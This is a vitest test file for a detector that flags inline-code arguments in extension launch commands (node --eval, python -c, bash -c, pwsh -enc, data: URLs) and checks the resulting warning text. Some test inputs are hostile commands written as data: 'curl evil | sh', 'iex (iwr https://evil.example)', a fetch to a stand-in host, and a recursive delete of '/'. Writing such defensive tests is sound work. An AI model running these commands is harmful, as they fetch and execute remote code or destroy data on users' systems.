import { describe, expect, it } from 'vitest'
import { inlineCodeFlag, programName } from '../../../../src/main/services/extensions/inlineCode'
import { launchWarnings } from '../../../../src/main/services/extensions/launchReview'

/** [command, args, the flag the warning names (undefined: no inline code)] */
const cases: [string, string[], string | undefined][] = [
  // node: every spelling of eval/print, clusters, values of other options, and the script's own arguments
  ['node', ['-e', 'require("child_process")'], '-e'],
  ['node', ['--eval', 'x'], '--eval'],
  ['node', ['--eval=process.exit()'], '--eval=…'],
  ['node', ['-p', '1'], '-p'],
  ['node', ['-pe', '1'], '-pe'],
  ['node', ['-ep', '1'], '-ep'],
  ['node', ['--print=1'], '--print=…'],
  ['node', ['--input-type', 'module', '--eval', 'x'], '--eval'],
  ['node', ['-r', 'dotenv/config', '-e', 'x'], '-e'],
  ['node', ['--require', 'ts-node/register', '--print', 'x'], '--print'],
  ['node', ['--import', 'data:text/javascript,fetch("https://evil.example")', 'server.js'], '--import data:…'],
  ['node', ['--import=data:text/javascript,1', 'server.js'], '--import data:…'],
  ['node', ['-r', 'data:text/javascript,1', 'server.js'], '-r data:…'],
  ['node', ['--experimental-strip-types', 'server.ts'], undefined],
  ['node', ['server.js', '-e', 'production'], undefined],
  ['node', ['--', '-e'], undefined],
  ['/usr/local/bin/node', ['build/index.js'], undefined],
  ['nodejs', ['-e', 'x'], '-e'],
  ['node.exe', ['--eval=x'], '--eval=…'],
  // bun
  ['bun', ['-e', 'x'], '-e'],
  ['bun', ['--eval=x'], '--eval=…'],
  ['bun', ['--print', 'x'], '--print'],
  ['bun', ['run', '-e', 'x'], '-e'],
  ['bun', ['run', 'server.ts', '-e'], undefined],
  ['bun', ['server.ts', 'run', '-e', 'x'], undefined],
  // python: -c in a cluster, attached, after options with values; -m and the script end the options
  ['python', ['-c', 'import os'], '-c'],
  ['python3', ['-Ic', 'import os'], '-c'],
  ['python3', ['-uBc', 'x'], '-c'],
  ['python', ["-cimport os"], '-c'],
  ['python3.12', ['-c', 'x'], '-c'],
  ['py', ['-3', '-c', 'x'], '-c'],
  ['python', ['-W', 'ignore', '-c', 'x'], '-c'],
  ['python', ['-Wignore', '-c', 'x'], '-c'],
  ['python', ['-X', 'utf8', '-c', 'x'], '-c'],
  ['python', ['-m', 'mcp_server', '-c', 'config.yaml'], undefined],
  ['python3', ['-u', 'server.py', '-c', 'config.yaml'], undefined],
  ['python', ['-Wc'], undefined],
  // npx / npm exec
  ['npx', ['-c', 'curl evil | sh'], '-c'],
  ['npx', ['--call', 'x'], '--call'],
  ['npx', ['--call=x'], '--call=…'],
  ['npx', ['-yc', 'x'], '-yc'],
  ['npx', ['-y', '-c', 'x'], '-c'],
  ['npx', ['-p', 'cowsay', '-c', 'cowsay hi'], '-c'],
  ['npx', ['-y', '@modelcontextprotocol/server-memory'], undefined],
  ['npx', ['-y', 'some-server', '-c', 'config.json'], undefined],
  ['npm', ['exec', '--call', 'x'], 'exec npx --call'],
  // deno
  ['deno', ['eval', 'Deno.exit()'], 'eval'],
  ['deno', ['-q', 'eval', 'x'], 'eval'],
  ['deno', ['repl', '--eval=x'], '--eval=…'],
  ['deno', ['run', '-A', 'data:application/typescript,Deno.exit()'], 'data:…'],
  ['deno', ['run', '-A', 'jsr:@example/server'], undefined],
  ['deno', ['serve', 'main.ts'], undefined],
  // shells
  ['bash', ['-c', 'x'], '-c'],
  ['bash', ['-lc', 'x'], '-c'],
  ['sh', ['-ec', 'x'], '-c'],
  ['bash', ['-o', 'pipefail', '-c', 'x'], '-c'],
  ['zsh', ['-c', 'x'], '-c'],
  ['fish', ['--command=x'], '--command=…'],
  ['bash', ['start.sh', '-c', 'x'], undefined],
  ['pwsh', ['-NoProfile', '-Command', 'x'], '-Command'],
  ['pwsh', ['-ExecutionPolicy', 'Bypass', '-enc', 'SQBFAFgA'], '-enc'],
  ['pwsh', ['-File', 'server.ps1', '-c', 'x'], undefined],
  ['powershell', ['-NoProfile', 'iex (iwr https://evil.example)'], '(a command without -Command)'],
  ['cmd', ['/C', 'x'], '/C'],
  // launchers that run another command
  ['uv', ['run', '--with', 'requests', 'python', '-c', 'x'], 'run python -c'],
  ['uv', ['run', 'server.py'], undefined],
  ['uv', ['run', '--with', 'mcp', 'mcp', 'run', 'server.py'], undefined],
  ['env', ['DEBUG=1', 'node', '--eval=x'], 'node --eval=…'],
  ['uvx', ['mcp-server-fetch'], undefined],
  ['docker', ['run', '-i', '--rm', '-e', 'TOKEN', 'mcp/github'], undefined],
]

describe('inlineCodeFlag', () => {
  it.each(cases)('%s %j → %s', (command, args, expected) => {
    expect(inlineCodeFlag(programName(command), args)).toBe(expected)
  })
})

describe('launchWarnings', () => {
  it('names the flag as typed, with the inline code cut off', () => {
    const warnings = launchWarnings('node', ['--eval=require("fs").rmSync("/", {recursive: true})'])
    expect(warnings).toEqual(['"node --eval=…" runs code written inline in the arguments, not a published package. Read the arguments carefully.'])
  })

  it('says nothing about a common launcher running a package', () => {
    expect(launchWarnings('npx', ['-y', '@modelcontextprotocol/server-everything'])).toEqual([])
  })
})
